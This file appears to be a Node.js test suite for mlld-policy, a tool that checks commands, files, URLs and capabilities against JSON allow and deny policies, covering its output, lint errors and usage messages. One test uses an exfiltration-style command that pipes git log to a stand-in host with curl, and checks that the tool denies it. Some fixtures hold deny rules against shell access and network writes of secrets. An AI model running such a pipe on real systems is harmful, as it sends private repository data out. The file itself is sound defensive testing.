/** The command line: what each command says, as text and as JSON, and how it ends. */

import assert from "node:assert/strict";
import { chmodSync, readFileSync } from "node:fs";
import path from "node:path";
import process from "node:process";
import test from "node:test";
import { folderOf, mlldPolicy, rows } from "../support/cli.mjs";
import { load, packageFolder } from "../support/installed.mjs";

const project = {
  name: "project",
  allow: ["cmd:git:*", "cmd:npm test:*", "fs:r:**", "fs:w:src/**", "net:api.github.com"],
  deny: ["cmd:git push origin main"],
};
const team = { name: "team", deny: ["cmd:npm publish", "sh"] };
const cwd = folderOf("cli", {
  "project.json": project,
  "team.json": team,
  "warned.json": { name: "warned", allow: ["cmd:git:*"], labels: { secret: { deny: ["net:w"] } }, danger: ["cmd:git:*"] },
  "broken.json": [
    '{ "dney": ["cmd:rm"],',
    '  "allow": ["gti", "fs:x:a"],',
    '  "limits": { "timeout": "x" },',
    '  "default": "maybe" }',
    "",
  ].join("\n"),
  "cut.json": '{ "allow": [',
  "latin1.json": Buffer.from('{ "name": "caf\xe9" }', "latin1"),
  "nothing.json": "",
});
const run = (args, options) => mlldPolicy(args, { cwd, ...options });

test("check: 0 where all is allowed, 1 where anything is denied", () => {
  assert.deepEqual(run(["check", "project.json", "--cmd", "git status"]), { code: 0, out: "allow  git status\n", err: "" });
  const { code, out, err } = run(["check", "project.json", "team.json", "--cmd", "git status", "--cmd", "git push origin main"]);
  assert.equal(code, 1);
  assert.equal(
    out,
    [
      "allow  git status",
      "deny   git push origin main",
      "       ^^^^^^^^^^^^^^^^^^^^",
      "       Command 'git' denied by policy",
      "       policy project, rule deny[0] (project.json:1:111)",
      "       to allow it: remove or narrow `deny[0]` in policy `project`",
      "",
    ].join("\n"),
  );
  assert.equal(err, "1 allowed, 1 denied\n");
});

test("check: files, URLs and capabilities, in the order in which they were given", () => {
  const { code, out } = run([
    ...["check", "project.json", "--url", "https://api.github.com/x", "--file", "src/a.ts", "--mode", "write"],
    ...["--capability", "js", "--file", "notes/a", "--mode", "read", "--json"],
  ]);
  assert.equal(code, 1);
  const said = rows(out).map(({ type, operation, mode, decision }) => [type, operation, mode, decision]);
  assert.deepEqual(said, [
    ["url", "https://api.github.com/x", undefined, "allow"],
    ["file", "src/a.ts", "write", "allow"],
    ["capability", "js", undefined, "deny"],
    ["file", "notes/a", "read", "allow"],
  ]);
  const shown = run(["check", "project.json", "--mode", "write", "--file", "a", "--file", "src/b", "--url", "x.example"]).out;
  assert.deepEqual(shown.match(/^(allow|deny) .*$/gm), ["deny   write: a", "allow  write: src/b", "deny   url: x.example"]);
});

test("check: JSON is what the engine decides, with the operation", () => {
  const { PolicyEngine } = load();
  const text = "cd src && git log | curl -d @- x.example";
  const [row] = rows(run(["check", "project.json", "--json", "--cmd", text]).out);
  const decision = new PolicyEngine(project, { base: cwd, home: "/home/u" }).checkCommand(text);
  assert.deepEqual(row, { type: "cmd", operation: text, ...decision });
  assert.equal(row.decision, "deny");
});

test("check: the options say where relative paths and `~` lead", () => {
  const args = ["check", "project.json", "--file", "/work/shop/src/x", "--mode", "write"];
  assert.equal(run(args).code, 1);
  assert.equal(run([...args, "--base", "/work/shop"]).code, 0);
  // A relative one starts from the current folder, as that is what is meant.
  assert.equal(run([...args, "--base", "../../work"]).code, 1);
  const atHome = ["--file", "~/x", "--mode", "write", "--home", "/h"];
  const [{ suggestions }] = rows(run(["check", "project.json", "--json", ...atHome]).out);
  assert.match(suggestions[0].entry, /\/h\/x$/);
});

test("check: what stands behind --cmd is a command, whatever it looks like", () => {
  for (const text of ["--json", "-rf", "--", "", "--cmd=x", "-"]) {
    const { code, out, err } = run(["check", "project.json", "--cmd", text]);
    if (text === "-") assert.match(err, /^error: standard input holds no command/);
    else assert.equal(out.split("\n")[0], `deny   ${text}`);
    assert.notEqual(code, 0);
  }
});

test("explain: every policy and rule", () => {
  const { code, out } = run(["explain", "project.json", "team.json", "--cmd", "git log | npm publish"]);
  assert.equal(code, 1);
  assert.equal(
    out,
    [
      "deny   git log | npm publish",
      "                 ^^^^^^^^^^^",
      "       Command 'npm' denied by policy",
      "       policy team, rule deny[0] (team.json:1:24)",
      "       to allow it: remove or narrow `deny[0]` in policy `team`",
      "",
      "  policy project denies",
      "    Command 'npm' denied by policy (rule allow)",
      "    git log",
      "        deny   git push origin main  does not match      deny[0]",
      "      > allow  git:*                 permits it          allow[0]",
      "        allow  npm test:*            does not permit it  allow[1]",
      "    npm publish",
      "        deny   git push origin main  does not match      deny[0]",
      "        allow  git:*                 does not permit it  allow[0]",
      "        allow  npm test:*            does not permit it  allow[1]",
      "",
      "  policy team denies",
      "    Command 'npm' denied by policy (rule deny[0])",
      "    git log",
      "        deny  npm publish  does not match  deny[0]",
      "    npm publish",
      "      > deny  npm publish  matches         deny[0]",
      "",
      "",
    ].join("\n"),
  );
  const { PolicyEngine } = load();
  const [row] = rows(run(["explain", "project.json", "--json", "--capability", "sh"]).out);
  const trace = new PolicyEngine(project, { base: cwd, home: "/home/u" }).explainCapability("sh");
  assert.deepEqual(row, { ...trace, type: "capability", operation: "sh" });
  assert.equal(run(["explain", "project.json", "--cmd", "git status"]).code, 0);
});

test("lint: 0 without errors, 1 with", () => {
  assert.deepEqual(run(["lint", "project.json"]), { code: 0, out: "project.json: no problems\n", err: "" });
  const { code, out, err } = run(["lint", "broken.json", "team.json"]);
  assert.equal(code, 1);
  assert.equal(err, "5 errors, 0 warnings\n");
  assert.equal(
    out,
    [
      "broken.json:1:3: error: dney: unknown key `dney`",
      '    1 | { "dney": ["cmd:rm"],',
      "      |   ^^^^^^",
      "    did you mean `deny`?",
      "broken.json:2:13: error: allow[0]: `gti` is no known capability",
      '    2 |   "allow": ["gti", "fs:x:a"],',
      "      |             ^^^^^",
      "    did you mean `cmd:gti`?",
      "broken.json:2:20: error: allow[1]: `x` is no file access: the modes are `r`, `w` and `rw`, in `fs:x:a`",
      '    2 |   "allow": ["gti", "fs:x:a"],',
      "      |                    ^^^^^^^^",
      "    did you mean `fs:r:a`?",
      "broken.json:3:26: error: limits.timeout: expected a number that is not negative, found a string",
      '    3 |   "limits": { "timeout": "x" },',
      "      |                          ^^^",
      "broken.json:4:14: error: default: `maybe` is none of `allow`, `deny`",
      '    4 |   "default": "maybe" }',
      "      |              ^^^^^^^",
      "team.json: no problems",
      "",
    ].join("\n"),
  );
});

test("lint: JSON has a row for each policy", () => {
  const { lint } = load();
  const said = rows(run(["lint", "--json", "broken.json", "project.json"]).out);
  assert.deepEqual(
    said.map(({ file, errors, warnings, problems }) => [file, errors, warnings, problems.length]),
    [
      ["broken.json", 5, 0, 5],
      ["project.json", 0, 0, 0],
    ],
  );
  const text = readFileSync(path.join(cwd, "broken.json"), "utf8");
  assert.deepEqual(
    said[0].problems,
    lint(text).map((problem) => ({ file: "broken.json", ...problem })),
  );
});

test("lint: warnings alone are no failure", () => {
  const { lint } = load();
  const policy = JSON.stringify({ labels: { secret: { deny: ["exfill"] } } });
  const problems = lint(policy);
  assert.ok(problems.length > 0 && problems.every(({ severity }) => severity === "warning"), JSON.stringify(problems));
  const { code, out, err } = run(["lint", "-"], { input: policy });
  assert.equal(code, 0);
  assert.match(out, /^standard input:1:\d+: warning: /);
  assert.match(err, /^0 errors, 1 warning\n$/);
});

test("a policy with mistakes decides nothing, and all of them are told", () => {
  for (const command of ["check", "explain"]) {
    const { code, out, err } = run([command, "team.json", "broken.json", "--cmd", "ls"]);
    assert.deepEqual([code, out], [2, ""]);
    assert.match(err, /^error: broken\.json is refused: mend what is listed below\nbroken\.json:1:3: error: dney: /);
    assert.equal(err.match(/^broken\.json:\d+:\d+: error/gm).length, 5);
  }
  const both = run(["check", "cut.json", "broken.json", "nothing.json", "--cmd", "ls", "--json"]);
  assert.deepEqual([both.code, both.err], [2, ""]);
  const [{ error }] = rows(both.out);
  assert.equal(error.code, "INVALID_POLICY");
  assert.equal(error.message, "3 policies are refused: mend what is listed below");
  assert.deepEqual([...new Set(error.problems.map(({ file }) => file))], ["cut.json", "broken.json", "nothing.json"]);
});

test("files that cannot be read end in 2, with a sentence", () => {
  const unreadable = {
    "missing.json": "missing.json cannot be read: it is not there: look at the path",
    ".": ". cannot be read: it is a folder: name a file",
    "team.json/x": "team.json/x cannot be read: it is no folder: look at the path",
    "latin1.json": "latin1.json is no text in UTF-8: save it as such",
  };
  for (const [name, sentence] of Object.entries(unreadable)) {
    for (const args of [["check", name, "--cmd", "ls"], ["lint", name], ["fmt", name], ["explain", name, "--cmd", "ls"]]) {
      assert.deepEqual(run(args), { code: 2, out: "", err: `error: ${sentence}\n` }, args.join(" "));
    }
    const [row] = rows(run(["check", name, "--cmd", "ls", "--json"]).out);
    assert.deepEqual(row, { error: { code: name === "latin1.json" ? "NO_TEXT" : "UNREADABLE", message: sentence } });
  }
  if (process.getuid?.() === 0) return; // nothing is unreadable
  const file = path.join(folderOf("cli-rights", { "p.json": {} }), "p.json");
  chmodSync(file, 0);
  assert.match(run(["lint", file]).err, /cannot be read: permission is denied: look at its rights/);
});

test("bad use ends in 2, and says what to do", () => {
  const sentences = [
    [["chekc"], "there is no command chekc: did you mean check?"],
    [["frobnicate"], "there is no command frobnicate: there are check, explain, lint, test, fmt, schema"],
    [["--verbose", "check"], "--verbose stands before the command: begin with check, explain, lint, test, fmt, schema"],
    [["check"], "no policy was named: name a file, or `-` for standard input"],
    [["check", "project.json", "--cdm", "ls"], "there is no option --cdm: did you mean --cmd?"],
    [["check", "project.json", "--cmd"], "--cmd needs a value: --cmd COMMAND"],
    [["check", "project.json", "--json=1", "--cmd", "ls"], "--json takes no value"],
    [["check", "project.json", "--base", "a", "--base", "b"], "--base stands twice: give it once"],
    [["check", "project.json", "--base", "", "--cmd", "ls"], "--base is empty: name a folder"],
    [["test", ".", "--home="], "--home is empty: name a folder"],
    [["check", "project.json", "--file", "a"], "--file needs a mode: add --mode read or --mode write"],
    [["check", "project.json", "--mode", "read"], "--mode stands without a file: give --file PATH"],
    [["check", "project.json", "--file", "a", "--mode", "append"], "--mode append is unknown: it is read or write"],
    [["check", "project.json", "--null", "--cmd", "ls"], "--null is about standard input, which is not read: leave it out, or add --cmd -"],
    [["explain", "project.json", "-0", "--url", "x.example"], "--null is about standard input, which is not read: leave it out, or add --cmd -"],
    [["--version", "check"], "--version takes nothing else: leave out check"],
    [["--help", "chekc"], "there is no command chekc: did you mean check?"],
    [["help", "check", "lint"], "help is about one command: leave out lint"],
    [["check", "-"], "standard input cannot hold both the policy and the commands: name a file, or give --cmd"],
    [["check", "-", "-", "--cmd", "ls"], "`-` stands twice: standard input can be read once only"],
    [["check", "project.json", "--cmd", "-", "--cmd", "-"], "`--cmd -` stands twice: standard input can be read once only"],
    [["check", "project.json", "--capability", "zz"], "`zz` is no capability: name sh, js, node, py, prose, keychain, cmd, network or filesystem"],
    [["lint"], "no policy was named: name a file, or `-` for standard input"],
    [["test"], "no folder was named: name one that holds scenarios"],
    [["test", "."], ". holds no scenario: a scenario is a folder with example.md, or example.mld"],
    [["test", "nowhere"], "nowhere cannot be read: it is not there: look at the path"],
    [["fmt", "project.json", "--to", "yaml"], "--to yaml is unknown: it is json or mlld"],
    [["fmt", "-", "--write"], "standard input cannot be written: leave out --write"],
    [["schema", "x"], "schema takes no file: leave it out"],
  ];
  const modes = ["--file", "a", "--file", "b", "--file", "c", "--mode", "read", "--mode", "write"];
  sentences.push([["check", "project.json", ...modes], "there are 2 modes for 3 files: give --mode once for all, or once for each"]);
  for (const [args, sentence] of sentences) {
    const { code, out, err } = run(args);
    assert.deepEqual([code, out, err.split("\n")[0]], [2, "", `error: ${sentence}`], args.join(" "));
    assert.doesNotMatch(err, /\bat .*:\d+:\d+/, "a stack trace");
  }
  const { err } = run(["check", "project.json", "--cdm", "ls"]);
  assert.equal(err.split("\n")[1], "See: mlld-policy check --help");
});

test("a policy may come from standard input", () => {
  const input = JSON.stringify(project);
  assert.equal(run(["check", "-", "--cmd", "git status"], { input }).out, "allow  git status\n");
  assert.equal(run(["check", "-", "--cmd", "ls"], { input: "{" }).code, 2);
});

test("every command has help, with examples that begin with its name", () => {
  const overview = run(["--help"]);
  assert.deepEqual([overview.code, overview.err], [0, ""]);
  const names = [...overview.out.matchAll(/^ {2}([a-z]+) {2,}[A-Z]/gm)].map(([, name]) => name);
  assert.deepEqual(names, ["check", "explain", "lint", "test", "fmt", "schema"]);
  for (const name of names) {
    const { code, out, err } = run([name, "--help"]);
    assert.deepEqual([code, err], [0, ""]);
    assert.match(out, new RegExp(`^Usage: mlld-policy ${name}`));
    assert.match(out, /^Ends with 0/m);
    const examples = out.slice(out.indexOf("Examples:"));
    assert.match(examples, new RegExp(`^ {2}# .*\\n {2}.*\\bmlld-policy ${name} ?`, "m"));
    for (const same of [[name, "-h"], ["help", name], ["--help", name]]) assert.equal(run(same).out, out);
    const narrow = run([name, "--help"], { env: { COLUMNS: "60" } }).out;
    const prose = narrow.slice(narrow.indexOf("\n\n"), narrow.indexOf("Examples:"));
    for (const line of prose.split("\n")) assert.ok(line.length <= 60, line);
  }
  const nothing = run([]);
  assert.deepEqual([nothing.code, nothing.out, nothing.err], [2, "", overview.out]);
});

test("the version and the schema are those of the package", () => {
  const { version } = JSON.parse(readFileSync(path.join(packageFolder, "package.json"), "utf8"));
  assert.deepEqual(run(["--version"]), { code: 0, out: `${version}\n`, err: "" });
  assert.deepEqual(rows(run(["--version", "--json"]).out), [{ version }]);
  const schema = readFileSync(path.join(packageFolder, "schema.json"), "utf8");
  assert.equal(run(["schema"]).out, schema);
  assert.deepEqual(rows(run(["schema", "--json"]).out), [JSON.parse(schema)]);
});
